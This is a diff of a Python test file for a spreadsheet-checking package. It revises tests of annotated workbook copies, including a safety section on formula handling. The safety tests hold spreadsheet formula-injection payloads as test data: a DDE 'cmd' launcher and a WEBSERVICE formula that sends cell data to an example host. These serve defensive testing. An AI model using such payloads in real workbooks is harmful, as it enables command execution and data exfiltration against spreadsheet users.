@@ -6,7 +6,6 @@ import datetime as dt
 import io
 import re
 import sys
-import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +17,8 @@ import metaalliance as ma
 from metaalliance.config import parse_config
 from metaalliance.errors import OptionError, UnreadableFileError
 from metaalliance.report.workbooks.annotated import annotated_workbook
-from metaalliance.sheet.read.grid import FormulaCell
+from metaalliance.report.workbooks.grid_copy import grid_workbook
+from metaalliance.sheet.read.grid import FormulaCell, Grid
 from metaalliance.sheet.read.source import read_grids
 
 DATA = Path(__file__).resolve().parents[2] / "data"
@@ -171,7 +171,8 @@ def test_further_sheets_are_copied(tmp_path, checked):
     assert {p.sheet for p in before.problems} == {"effects", "studies", "codebook"}
     assert _found(after) == _found(before)
     annotated = load_workbook(copy)
-    assert annotated.sheetnames == ["effects", "studies", "codebook", "Problems"]
+    assert annotated.sheetnames == ["effects", "studies", "codebook", "scratch", "Problems"]
+    assert annotated["scratch"]["B1"].value == "out"
     assert annotated["studies"]["C3"].comment is not None
     listed = [row[2].value for row in annotated["Problems"].iter_rows(min_row=2)]
     assert "studies!C3" in listed
@@ -229,7 +230,8 @@ def test_notes_of_the_sheet_are_kept(written, checked):
 
     _, copy, _ = checked(written([HEADER, _row("A", 1.07), _row("B", 0.2)], change=change))
     sheet = load_workbook(copy)["effects"]
-    assert sheet["B2"].comment.text.endswith("Note of the sheet: mail of the author")
+    assert sheet["B2"].comment.text.startswith("mail of the author\nerror MA312: ")
+    assert sheet["B2"].comment.author == "coder"
     assert sheet["C2"].comment.text == "completers"
 
 
@@ -284,26 +286,32 @@ def test_sheets_with_inconvenient_names(written, checked, title):
 # Safety ---------------------------------------------------------------------------------
 
 
-def test_nothing_of_the_sheet_runs_in_the_copy(written, checked):
+def test_formulas_and_text_like_formulas_are_those_of_the_workbook(written, checked):
+    formula = '=WEBSERVICE("http://example.org/" & A1)'
+
     def change(sheet: Any) -> None:
         sheet["A2"].value = LIVE
         sheet["A2"].data_type = "s"  # text that looks like a formula
-        sheet["B3"].value = '=WEBSERVICE("http://example.org/" & A1)'  # without a stored value
+        sheet["B3"].value = formula  # without a stored value
         sheet["A3"].value = "+1+1"
 
     path = written([HEADER, _row("A", 1.2), _row("B", 0.2), _row("C", "=cmd|'/c calc'!A1")],
                    change=change)  # fmt: skip
     before, copy, after = checked(path)
     assert _found(after) == _found(before)
-    with zipfile.ZipFile(copy) as archive:
-        sheets = [archive.read(n).decode() for n in archive.namelist() if "/worksheets/s" in n]
-    formulas = [f for xml in sheets for f in re.findall(r"<f[^>]*>(.*?)</f>", xml)]
-    assert len(formulas) == 2
-    for formula in formulas:
-        assert re.fullmatch(r'"[^"]*"', formula.replace("&quot;", '"'))
-    sheet = load_workbook(copy)["effects"]
+    book = load_workbook(copy)
+    sheet = book["effects"]
     assert (sheet["A2"].value, sheet["A2"].data_type) == (LIVE, "s")
-    assert sheet["A2"].quotePrefix
+    assert (sheet["B3"].value, sheet["B3"].data_type) == (formula, "f")
+    assert {c.data_type for row in book["Problems"] for c in row if c.value} == {"s"}
+
+
+def test_formulas_of_other_formats_do_not_run(written):
+    """What is made anew from the values of a sheet holds no formula of it."""
+    grid = Grid(name="effects", rows=[HEADER[:3], ["A", FormulaCell('=WEBSERVICE("x")'), 40]])
+    studies = ma.read_studies(written([HEADER, _row("A", 0.3)]))
+    sheet = load_workbook(io.BytesIO(grid_workbook([grid], studies)))["effects"]
+    assert sheet["B2"].value == "=\"=WEBSERVICE('x')\""
 
 
 def test_forbidden_characters_are_dropped(tmp_path, checked):
